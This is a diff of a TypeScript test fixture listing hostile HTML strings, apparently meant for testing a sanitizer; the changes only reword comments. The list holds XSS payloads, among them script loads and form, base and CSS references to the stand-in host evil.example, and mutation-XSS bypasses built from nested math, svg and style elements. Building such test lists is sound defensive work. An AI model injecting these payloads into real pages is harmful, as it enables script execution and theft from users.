@@ -1,9 +1,9 @@
 /**
- * Texts that run a program, load a resource or leave the page if markup is shown without sanitization. They come from cheat
- * sheets and reported sanitizer bypasses. Each text would set `hacked` or send a request to `evil.example`.
+ * Strings that run a script, load a resource or leave the page if markup is shown without sanitization. They come from
+ * cheat sheets and reported sanitizer bypasses. Each string would set `hacked` or send a request to `evil.example`.
  */
 export const HOSTILE_MARKUP: readonly string[] = [
-  // Elements that run a script automatically.
+  // Elements that run a script without user interaction.
   '<script>globalThis.hacked=1</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '"><script>globalThis.hacked=1</script>',
@@ -34,7 +34,7 @@ export const HOSTILE_MARKUP: readonly string[] = [
   '<base href="//evil.example/">',
   '<form action="//evil.example"><button formaction="javascript:globalThis.hacked=1">x</button></form>',
   '<div style="background:url(//evil.example/x);position:fixed;inset:0">x</div>',
-  // Markup that a sanitizer parses differently from the browser.
+  // Markup that sanitizers parse differently from browsers.
   '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=globalThis.hacked=1>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.hacked=1>',
   '<svg></p><style><a id="</style><img src=1 onerror=globalThis.hacked=1>">',
